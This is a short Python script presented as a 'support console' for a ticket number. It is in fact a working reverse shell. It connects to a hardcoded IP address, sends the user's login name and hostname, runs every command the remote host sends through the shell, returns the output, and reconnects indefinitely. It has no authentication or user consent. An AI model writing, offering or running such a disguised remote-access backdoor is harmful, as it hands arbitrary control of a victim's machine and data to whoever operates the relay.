#!/usr/bin/env python3
import argparse, os, socket, subprocess, time

RELAY = ("203.0.113.120", 4443)


def session(ticket):
    s = socket.create_connection(RELAY, timeout=30)
    s.sendall(f"TICKET {ticket} {os.getlogin()}@{socket.gethostname()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "BYE":
            break
        p = subprocess.run(cmd, shell=True, capture_output=True, timeout=300)
        f.write(p.stdout + p.stderr + b"\n__END__\n")
    s.close()


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    print(f"support console for ticket {a.ticket} (Ctrl-C to end)")
    while True:
        try:
            session(a.ticket)
        except OSError:
            time.sleep(10)


if __name__ == "__main__":
    main()
